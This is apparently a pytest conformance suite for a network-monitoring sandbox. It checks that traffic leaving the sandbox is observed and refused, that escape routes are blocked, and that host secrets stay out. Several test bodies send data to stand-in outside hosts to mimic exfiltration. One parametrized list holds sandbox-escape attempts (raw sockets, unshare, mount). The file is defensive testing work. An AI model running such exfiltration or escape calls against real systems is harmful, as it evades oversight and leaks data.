"""No byte leaves a cell unseen."""

from __future__ import annotations

import socket
import sys
import textwrap

import pytest
from cells import BODY, SOUND, needs_cell, start

from earwitness.conformance.targets.cell import Cell

pytestmark = needs_cell


def test_a_second_connection_is_seen_with_its_name_and_size():
    body = """
        stranger = socket.create_connection(('collect.example.net', 443), 5); stranger.sendall(SOUND * 100)
        direct = socket.create_connection(('203.0.113.7', 8443), 5); direct.sendall(SOUND)
        six = socket.create_connection(('2001:db8::7', 443), 5); six.sendall(SOUND)
        done()"""
    with start(body) as cell:
        flows = [f for f in cell.flows() if f.protocol == "tcp"]
        looked_up = [f.name for f in cell.flows() if f.protocol == "dns"]
        assert cell.incomplete == ""
    assert [(f.name, f.peer.rpartition(":")[2], f.bytes) for f in flows] == [
        ("collect.example.net", "443", 100 * len(SOUND)),
        ("", "8443", len(SOUND)),
        ("", "443", len(SOUND)),
    ]
    assert (
        flows[1].peer == "203.0.113.7:8443"
        and flows[2].peer == "[2001:db8::7]:443"
    )
    assert all(
        f.refused and not f.local and f.content.startswith(SOUND)
        for f in flows
    )
    assert "collect.example.net" in looked_up


def test_a_caller_of_the_outside_is_refused_in_the_end():
    body = """
        caller = socket.create_connection(('203.0.113.7', 443), 5); caller.sendall(SOUND)
        try:
            caller.recv(1)
        except ConnectionResetError:
            done()"""
    start(body).close()


def test_the_name_in_a_tls_greeting_is_read():
    body = """
        import ssl
        caller = socket.create_connection(('203.0.113.7', 443), 5)
        try:
            ssl._create_unverified_context().wrap_socket(caller, server_hostname='hidden.example.org')
        except OSError:
            done()"""
    with start(body) as cell:
        assert [(f.peer, f.name) for f in cell.flows()] == [
            ("203.0.113.7:443", "hidden.example.org")
        ]


def test_datagrams_multicast_and_names_are_seen():
    body = """
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.sendto(SOUND, ('8.8.8.8', 53)); one.sendto(SOUND, ('239.255.255.250', 1900))
        one.sendto(SOUND, ('224.0.0.251', 5353))
        six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); six.sendto(SOUND, ('2001:db8::7', 9))
        done()"""
    with start(body) as cell:
        flows = {f.peer: f for f in cell.flows()}
    assert set(flows) == {
        "8.8.8.8:53",
        "239.255.255.250:1900",
        "224.0.0.251:5353",
        "[2001:db8::7]:9",
    }
    assert all(
        f.content == SOUND and f.refused and f.protocol == "udp"
        for f in flows.values()
    )


@pytest.mark.parametrize("bind", ["127.0.0.1", "0.0.0.0"])
@pytest.mark.parametrize("to", ["127.0.0.1", "127.9.9.9", "10.99.0.2"])
def test_a_connection_past_the_relay_to_a_server_in_the_cell_is_seen(
    bind, to
):
    body = f"""
        server = socket.create_server(({bind!r}, 8443))
        try:
            caller = socket.create_connection(({to!r}, 8443)); caller.sendall(SOUND)
            server.accept()[0].sendall(b'thanks')
            caller.recv(6)
        except ConnectionRefusedError:
            assert {bind!r} != '0.0.0.0'
        done()"""
    with start(body) as cell:
        flows = cell.flows()
    reached = bind == "0.0.0.0" or bind == to
    counted = (len(SOUND), 6) if reached else (0, 0)
    assert [(f.peer, f.bytes, f.answered) for f in flows] == [
        (f"{to}:8443", *counted)
    ]
    assert (
        flows[0].local
        and not flows[0].refused
        and flows[0].content == (SOUND if reached else b"")
    )


def test_a_direct_tls_connection_is_counted_where_it_cannot_be_read(tmp_path):
    import trustme

    certificate = tmp_path / "server.pem"
    trustme.CA().issue_cert(
        "localhost"
    ).private_key_and_cert_chain_pem.write_to_path(certificate)
    body = f"""
        import ssl, threading
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain({str(certificate)!r})
        server = socket.create_server(('127.0.0.1', 8443))
        # What was handed to the kernel may still be on its way; it is not, once it has come.
        has_come = threading.Event()
        def serve():
            connection, missing = context.wrap_socket(server.accept()[0], server_side=True), 1000 * len(SOUND)
            while missing > 0:
                missing -= len(connection.recv(1 << 16))
            has_come.set()
        threading.Thread(target=serve, daemon=True).start()
        own = ssl._create_unverified_context().wrap_socket(socket.create_connection(('127.0.0.1', 8443)))
        own.sendall(SOUND * 1000)
        has_come.wait(60)
        done()"""
    with start(body) as cell:
        (flow,) = cell.flows()
    assert (
        flow.peer == "127.0.0.1:8443"
        and flow.bytes > 1000 * len(SOUND)
        and SOUND not in flow.content
    )


def test_a_door_is_the_relays_business_and_no_flow():
    body = """
        port = int(sys.stdin.readline())
        caller = socket.create_connection(('127.0.0.1', port)); caller.sendall(SOUND)
        assert caller.recv(100) == b'answer'
        print('done', flush=True)
        server = socket.create_server(('127.0.0.1', 8443))
        print('listening', flush=True)
        server.accept()[0].sendall(b'from inside')
        sys.stdin.read()"""
    cell = Cell.start([sys.executable, "-c", BODY + textwrap.dedent(body)])
    with cell, cell.listen() as door:
        cell.stdin.write(f"{door.getsockname()[1]}\n".encode())
        caller, _ = door.accept()
        with caller:
            assert caller.recv(100) == SOUND
            caller.sendall(b"answer")
        assert cell.stdout.readline() == b"done\n"
        assert cell.stdout.readline() == b"listening\n"
        with cell.connect("127.0.0.1", 8443) as into:
            assert into.recv(100) == b"from inside"
        assert cell.flows() == ()


def test_our_own_loopback_cannot_be_reached():
    with socket.create_server(("127.0.0.1", 0)) as ours:
        port = ours.getsockname()[1]
        body = f"""
            try:
                socket.create_connection(('127.0.0.1', {port}), 2)
            except ConnectionRefusedError:
                done()"""
        start(body).close()


def test_a_unix_socket_of_ours_cannot_be_reached(tmp_path):
    path = str(tmp_path / "ours")
    with socket.socket(socket.AF_UNIX) as ours:
        ours.bind(path)
        ours.listen()
        body = f"""
            try:
                socket.socket(socket.AF_UNIX).connect({path!r})
            except ConnectionRefusedError:
                done()"""
        start(body).close()


@pytest.mark.parametrize(
    "call",
    [
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        "socket.socket(40, socket.SOCK_STREAM)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(socket.SOL_SOCKET, 36, 0x77)",
        "subprocess.run(['unshare', '--user', '--map-root-user', 'true'], check=True)",
        "subprocess.run(['mount', '-t', 'tmpfs', 'x', '/mnt'], check=True)",
    ],
)
def test_ways_out_of_sight_are_refused(call):
    body = f"""
        try:
            {call}
        except (OSError, subprocess.CalledProcessError):
            done()"""
    start(body).close()


def test_nothing_secret_of_ours_is_in_its_environment(monkeypatch):
    monkeypatch.setenv("DEPLOY_TOKEN", "hush")
    body = "assert 'hush' not in str(os.environ) and 'hush' not in open('/proc/1/environ').read(); done()"
    start(body).close()
